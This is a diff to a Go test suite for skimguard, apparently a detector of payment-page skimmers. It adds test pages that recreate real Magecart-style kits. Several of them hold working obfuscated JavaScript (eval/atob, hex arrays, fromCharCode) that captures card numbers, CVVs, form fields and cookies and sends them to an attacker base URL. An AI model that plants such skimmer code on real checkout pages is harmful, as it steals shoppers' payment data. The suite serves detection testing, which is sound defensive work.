@@ -7,11 +7,13 @@ import (
 	"html/template"
 	"os"
 	"path/filepath"
+	"slices"
 	"strings"
 	"testing"
 	"time"
 
 	skimguard "github.com/skimguard/skimguard"
+	"github.com/skimguard/skimguard/internal/sharedfiles"
 )
 
 // technique is one row of THREATS.md made into a page: served clean, learnt
@@ -30,6 +32,34 @@ type technique struct {
 	subjects []string
 	// repeat checks the planted page this many times (once-per-visitor).
 	repeat int
+	// fires says what the attacker's server must receive from the shopper's
+	// browser on each planted check, proving the skimmer fired before the
+	// test asks whether skimguard caught it. Its zero value means fireCard
+	// when want holds data.exfiltration; any other technique must say.
+	fires fire
+}
+
+// fire is what proves that a planted skimmer ran for the shopper.
+type fire int
+
+const (
+	// fireCard: the attacker's server received the typed card number.
+	fireCard fire = iota + 1
+	// fireRequest: the attacker's server received a request (a cookie
+	// beacon, a fetch of its payload, a redirected shopper).
+	fireRequest
+	// fireNothing: the change itself is the attack and sends nothing by
+	// itself (a dropped header or attribute, a form that sends only when
+	// submitted, a handler that waits for a click the monitor never makes).
+	fireNothing
+)
+
+// proof returns what proves tc fired.
+func (tc *technique) proof() fire {
+	if tc.fires == 0 && slices.Contains(tc.want, skimguard.KindDataExfiltration) {
+		return fireCard
+	}
+	return tc.fires
 }
 
 func direct(p *page)  { p.Direct = true }
@@ -60,13 +90,14 @@ func sri384(s string) string {
 	return "sha384-" + base64.StdEncoding.EncodeToString(h[:])
 }
 
-// corpus reads a real skimmer sample from ../shared/skimmer-corpus. Hosts in
-// it are rewritten by the caller to loopback before any browser loads it.
-func corpus(t testing.TB, name string) string {
+// corpus reads a real skimmer sample from dir, the build machines' skimmer
+// corpus. Hosts in it are rewritten by the caller to loopback before any
+// browser loads it.
+func corpus(t testing.TB, dir, name string) string {
 	t.Helper()
-	b, err := os.ReadFile(filepath.Join("..", "..", "shared", "skimmer-corpus", name))
+	b, err := os.ReadFile(filepath.Join(dir, name))
 	if err != nil {
-		t.Fatalf("read corpus sample %s: %v (the corpus lives in ../shared beside the repository)", name, err)
+		t.Fatalf("read corpus sample: %v", err)
 	}
 	return string(b)
 }
@@ -95,15 +126,9 @@ func mustReplace(t testing.TB, s, old, new string) string {
 	return strings.ReplaceAll(s, old, new)
 }
 
-func techniques(t testing.TB) []*technique {
-	atob := corpus(t, "gwillem__corpus_frontend_atob.js.txt")
-	gate := corpus(t, "gwillem__corpus_frontend_gate.php.js.txt")
-	zsmk := corpus(t, "gwillem__corpus_frontend_zs.mk.txt")
-	cdnjs := corpus(t, "gwillem__corpus_frontend_cdn-js.link.js.txt")
-	amasty := corpus(t, "gwillem__corpus_frontend_amasty.biz.txt")
-	megalith := corpus(t, "gwillem__corpus_frontend_megalith-games.com.js.txt")
-	vintage := corpus(t, "gwillem__corpus_frontend_vintagecollection.ch.js.txt")
-
+// techniques are the pages written for this suite, one or more for every
+// technique of THREATS.md: they run on every clone.
+func techniques() []*technique {
 	return []*technique{
 		{
 			name: "inline-fxon", threat: "inline <script> added to the checkout HTML (fx-on 2017)",
@@ -155,6 +180,7 @@ func techniques(t testing.TB) []*technique {
 			},
 			want:     []skimguard.Kind{skimguard.KindScriptChanged, skimguard.KindScriptAdded, skimguard.KindConnectionAdded},
 			subjects: []string{"/gtm.js", "/tag.js"},
+			fires:    fireRequest,
 		},
 		{
 			name: "eval-snippet", threat: "code run by eval / new Function, with no URL",
@@ -189,6 +215,7 @@ func techniques(t testing.TB) []*technique {
 			},
 			want:     []skimguard.Kind{skimguard.KindScriptAdded, skimguard.KindConnectionAdded},
 			subjects: []string{"onerror", "javascript"},
+			fires:    fireRequest,
 		},
 		{
 			name: "fake-card-form", threat: "fake card form injected over the provider's iframe, the real one hidden",
@@ -207,7 +234,7 @@ func techniques(t testing.TB) []*technique {
 			plant: func(p *page) {
 				p.FrameSrc = p.EvilBase + "/hosted"
 				p.EvilHTML["/hosted"] = `<!doctype html><form action="/steal" method="post"><input name="cardnumber" autocomplete="cc-number"><input name="exp-date" autocomplete="cc-exp"><input name="cvc" autocomplete="cc-csc"></form>
-<script>document.addEventListener('change', function (e) { if (e.target.name === 'cardnumber') navigator.sendBeacon('/k', e.target.value); }, true);</script>`
+<script>document.addEventListener('change', function (e) { if (e.target.name === 'cardnumber') navigator.sendBeacon('k', e.target.value); }, true);</script>`
 			},
 			want:  []skimguard.Kind{skimguard.KindDataExfiltration},
 			anyOf: []skimguard.Kind{skimguard.KindFrameChanged, skimguard.KindFrameAdded},
@@ -218,7 +245,8 @@ func techniques(t testing.TB) []*technique {
 			plant: func(p *page) {
 				p.Action = p.EvilBase + "/pay"
 			},
-			want: []skimguard.Kind{skimguard.KindFormChanged},
+			want:  []skimguard.Kind{skimguard.KindFormChanged},
+			fires: fireNothing,
 		},
 		{
 			name: "redirect-fake-payment", threat: "payment step redirected to a fake payment page (EC-CUBE 2018–2019, Zojirushi 2019)",
@@ -227,7 +255,8 @@ func techniques(t testing.TB) []*technique {
 				p.Redirect = p.EvilBase + "/payment"
 				p.EvilHTML["/payment"] = `<!doctype html><h1>Payment failed, please retry</h1><form action="/retry" method="post"><input name="cc-number" autocomplete="cc-number"><input name="cc-csc" autocomplete="cc-csc"><button>Pay</button></form>`
 			},
-			want: []skimguard.Kind{skimguard.KindPageRedirected},
+			want:  []skimguard.Kind{skimguard.KindPageRedirected},
+			fires: fireRequest,
 		},
 		{
 			name: "payload-in-favicon", threat: "payload hidden in an image (Malwarebytes favicon 2020), run from a loader",
@@ -259,7 +288,7 @@ func techniques(t testing.TB) []*technique {
 			name: "allowed-service-exfil", threat: "card data sent to a service the page already talks to (analytics collect endpoint), base64 reversed",
 			base: direct,
 			plant: func(p *page) {
-				p.Body = script(skim(`navigator.sendBeacon('` + p.CDN + `/collect?t=event&el=' + encodeURIComponent(btoa(s).split('').reverse().join(''))); sent = true;`))
+				p.Body = script(skim(`navigator.sendBeacon('` + p.CDNBase + `/collect?t=event&el=' + encodeURIComponent(btoa(s).split('').reverse().join(''))); sent = true;`))
 			},
 			want:     []skimguard.Kind{skimguard.KindDataExfiltration},
 			subjects: []string{"127.0.0.3"},
@@ -328,15 +357,130 @@ func techniques(t testing.TB) []*technique {
 			},
 			plant: func(p *page) { p.SRIAttrs = "" },
 			want:  []skimguard.Kind{skimguard.KindScriptAttributesChanged},
+			fires: fireNothing,
 		},
 		{
 			name: "csp-removed", threat: "security header removed (PCI DSS 11.6.1 watches headers)",
 			base:  direct,
 			plant: func(p *page) { p.CSP = "" },
 			want:  []skimguard.Kind{skimguard.KindHeaderRemoved},
+			fires: fireNothing,
 		},
 
-		// Real skimmers from ../shared/skimmer-corpus, hosts rewritten to loopback.
+		// Our own pages for what the corpus samples do, so that every clone
+		// proves these techniques too.
+		{
+			name: "checkout-url-only-atob", threat: "runs only on URLs containing checkout, onepage or onestep: eval(atob()) loader that document.writes a reversed script URL (as the atob.js kit)",
+			base: direct,
+			plant: func(p *page) {
+				loader := `if ((new RegExp('onepage|checkout|onestep')).test(window.location)) { document.write('` + reverse(`<script src="`+p.EvilBase+`/e.js"></`+`script>`) + `'.split('').reverse().join('')); }`
+				p.Head = script(`this['eval'](this['atob']('` + base64.StdEncoding.EncodeToString([]byte(loader)) + `'));`)
+				p.EvilFiles["/e.js"] = skim(`new Image().src = '` + p.EvilBase + `/a.gif?d=' + btoa(s); sent = true;`)
+			},
+			want:     []skimguard.Kind{skimguard.KindScriptAdded, skimguard.KindDataExfiltration},
+			subjects: []string{"/e.js"},
+		},
+		{
+			name: "polling-magento-gate", threat: "polls the Magento payment form every 700 ms and posts it with jQuery once PAN and CVV are complete (as the gate.php kit)",
+			base: magento,
+			plant: func(p *page) {
+				p.Body = script(`var se = false; setInterval(function () {
+  var r = document.getElementsByName('payment[cc_number]'); if (se || !r.length) return;
+  var n = r[0].value.replace(/[^\d]/g, ''); var c = document.getElementsByName('payment[cc_cid]')[0].value;
+  if (n.length === 16 && c.length === 3) { se = true;
+    jQuery.ajax({ url: '` + p.EvilBase + `/gate.php?token=x', type: 'POST', data: JSON.stringify(jQuery('#co-payment-form').serialize()) }); }
+}, 700);`)
+			},
+			want: []skimguard.Kind{skimguard.KindScriptAdded, skimguard.KindDataExfiltration},
+		},
+		{
+			name: "image-beacon-cookies", threat: "image beacon carrying the location, the top location and the cookies at load (as the zs.mk kit)",
+			base: direct,
+			plant: func(p *page) {
+				p.Body = script(`(function () { (new Image()).src = '` + p.EvilBase + `/index.php?do=api&location=' + escape(document.location.href) + '&toplocation=' + escape(top.location.href) + '&cookie=' + escape(document.cookie); })();`)
+			},
+			want:  []skimguard.Kind{skimguard.KindScriptAdded, skimguard.KindConnectionAdded},
+			fires: fireRequest,
+		},
+		{
+			name: "hex-array-delayed-input", threat: "hex-escaped string array, waits 5 s, then sends the form on input (as the cdn-js.link kit)",
+			base: magento, wait: 7 * time.Second,
+			plant: func(p *page) {
+				p.Head = template.HTML(`<script src="` + p.EvilBase + `/lib.js"></script>`)
+				p.EvilFiles["/lib.js"] = `var _0x5a1c = ['` + hexEscape("input") + `', '` + hexEscape(p.EvilBase+"/mag.php") + `', '` + hexEscape("payment[cc_number]") + `'];
+setTimeout(function () {
+  document.addEventListener(_0x5a1c[0], function () {
+    var f = document.getElementById('co-payment-form'); var n = f.elements[_0x5a1c[2]].value.replace(/\D/g, '');
+    if (n.length < 16 || window._0xsent) return; window._0xsent = true;
+    var x = new XMLHttpRequest(); x.open('POST', _0x5a1c[1]); x.send(btoa(new URLSearchParams(new FormData(f)).toString()));
+  }, true);
+}, 5000);`
+			},
+			want:     []skimguard.Kind{skimguard.KindScriptAdded, skimguard.KindDataExfiltration},
+			subjects: []string{"/lib.js"},
+		},
+		{
+			name: "fromcharcode-onepage-timer", threat: "eval(String.fromCharCode(...)) that runs a setTimeout(string) loop on onepage URLs (as the amasty.biz kit)",
+			base: direct,
+			plant: func(p *page) {
+				code := `window.grab = function () { var d = ''; document.querySelectorAll('input').forEach(function (i) { if (i.value) d += i.name + '=' + i.value + '&'; });
+  if (/cc-number=\d{16}/.test(d) && !window.sentIt) { window.sentIt = true; new Image().src = '` + p.EvilBase + `/lib/paypal_icon.jpg?h=' + btoa(d); } setTimeout('grab()', 300); };
+if ((new RegExp('onepagecheckout|onestepcheckout|onepage')).test(window.location)) { setTimeout('grab()', 300); }`
+				p.Body = script(`this['eval'](String['fromCharCode'](` + fromCharCodes(code) + `));`)
+			},
+			want: []skimguard.Kind{skimguard.KindScriptAdded, skimguard.KindDataExfiltration},
+		},
+		{
+			name: "pay-onclick-hidden-iframe", threat: "rewrites the pay button's onclick to send the form through a hidden iframe (as the megalith-games kit)",
+			base: magento,
+			plant: func(p *page) {
+				p.Body = script(`window.onload = function () { var b = document.getElementById('pay'); var old = b.onclick;
+  b.onclick = function () { var t = document.createElement('iframe'); t.style.display = 'none';
+    t.src = '` + p.EvilBase + `/log.php?d=' + encodeURIComponent(new URLSearchParams(new FormData(document.getElementById('co-payment-form'))).toString());
+    document.body.appendChild(t); return old ? old.apply(this, arguments) : true; }; };`)
+			},
+			// It sends on a click, which a monitor never makes (it would
+			// pay): its code is what is caught.
+			want:  []skimguard.Kind{skimguard.KindScriptAdded},
+			fires: fireNothing,
+		},
+		{
+			name: "click-listener-lookalike-once", threat: "lookalike jQuery domain, once-per-visitor id cookie, sends every field on any button click or form submit (as the vintagecollection kit)",
+			base: direct,
+			plant: func(p *page) {
+				p.Head = template.HTML(`<script src="` + p.EvilBase + `/jquery.min.js"></script>`)
+				p.EvilFiles["/jquery.min.js"] = `(function () {
+  var id = (document.cookie.match(/(?:^|; )setidd=([^;]*)/) || [])[1];
+  if (!id) { id = Date.now() + '-' + Math.floor(Math.random() * 1e9); document.cookie = 'setidd=' + id + '; path=/; max-age=86400'; }
+  function clk() { var d = ''; document.querySelectorAll('input, select').forEach(function (i) { if (i.value) d += i.name + '=' + i.value + '&'; });
+    var x = new XMLHttpRequest(); x.open('POST', '` + p.EvilBase + `/jquery.min.js'); x.send('info=' + btoa(d) + '&key=' + id); }
+  if (/onepage|checkout|onestep/.test(location)) document.addEventListener('DOMContentLoaded', function () {
+    document.querySelectorAll('button, input[type=submit]').forEach(function (b) { b.addEventListener('click', clk); });
+    document.querySelectorAll('form').forEach(function (f) { f.addEventListener('submit', clk); }); });
+})();`
+			},
+			want:     []skimguard.Kind{skimguard.KindScriptAdded},
+			subjects: []string{"/jquery.min.js"},
+			fires:    fireNothing,
+		},
+	}
+}
+
+// corpusTechniques are real skimmers from the build machines' corpus, hosts
+// rewritten to loopback; nil, and why, when the corpus is absent.
+func corpusTechniques(t testing.TB) ([]*technique, string) {
+	dir, why := sharedfiles.CorpusDir()
+	if dir == "" {
+		return nil, why
+	}
+	atob := corpus(t, dir, "gwillem__corpus_frontend_atob.js.txt")
+	gate := corpus(t, dir, "gwillem__corpus_frontend_gate.php.js.txt")
+	zsmk := corpus(t, dir, "gwillem__corpus_frontend_zs.mk.txt")
+	cdnjs := corpus(t, dir, "gwillem__corpus_frontend_cdn-js.link.js.txt")
+	amasty := corpus(t, dir, "gwillem__corpus_frontend_amasty.biz.txt")
+	megalith := corpus(t, dir, "gwillem__corpus_frontend_megalith-games.com.js.txt")
+	vintage := corpus(t, dir, "gwillem__corpus_frontend_vintagecollection.ch.js.txt")
+	return []*technique{
 		{
 			name: "corpus-atob-checkout", threat: "corpus atob.js: eval(atob()) loader, only on checkout URLs, document.write of a reversed URL",
 			base: direct,
@@ -368,7 +512,8 @@ func techniques(t testing.TB) []*technique {
 			plant: func(p *page) {
 				p.Body = script(mustReplace(t, zsmk, "http://zs.mk/", p.EvilBase+"/"))
 			},
-			want: []skimguard.Kind{skimguard.KindScriptAdded, skimguard.KindConnectionAdded},
+			want:  []skimguard.Kind{skimguard.KindScriptAdded, skimguard.KindConnectionAdded},
+			fires: fireRequest,
 		},
 		{
 			name: "corpus-cdn-js-link", threat: "corpus cdn-js.link.js: hex string-array obfuscation, 5 s delay, fires on input",
@@ -389,7 +534,8 @@ func techniques(t testing.TB) []*technique {
 				code := mustReplace(t, amasty, fromCharCodes("https://amasty.biz/lib/paypal_icon.jpg"), fromCharCodes(p.EvilBase+"/lib/paypal_icon.jpg"))
 				p.Body = template.HTML(code)
 			},
-			want: []skimguard.Kind{skimguard.KindScriptAdded},
+			want:  []skimguard.Kind{skimguard.KindScriptAdded},
+			fires: fireNothing,
 		},
 		{
 			name: "corpus-megalith", threat: "corpus megalith-games.com.js: rewrites the pay button's onclick, exfiltrates through a hidden iframe",
@@ -397,7 +543,8 @@ func techniques(t testing.TB) []*technique {
 			plant: func(p *page) {
 				p.Body = template.HTML(mustReplace(t, megalith, "http://megalith-games.com/log.php", p.EvilBase+"/log.php"))
 			},
-			want: []skimguard.Kind{skimguard.KindScriptAdded},
+			want:  []skimguard.Kind{skimguard.KindScriptAdded},
+			fires: fireNothing,
 		},
 		{
 			name: "corpus-vintagecollection", threat: "corpus vintagecollection.ch.js: once-per-visitor cookie, lookalike jQuery domain",
@@ -408,8 +555,9 @@ func techniques(t testing.TB) []*technique {
 			},
 			want:     []skimguard.Kind{skimguard.KindScriptAdded},
 			subjects: []string{"/jquery.min.js"},
+			fires:    fireNothing,
 		},
-	}
+	}, ""
 }
 
 // fromCharCodes writes s as the comma-separated char codes the amasty
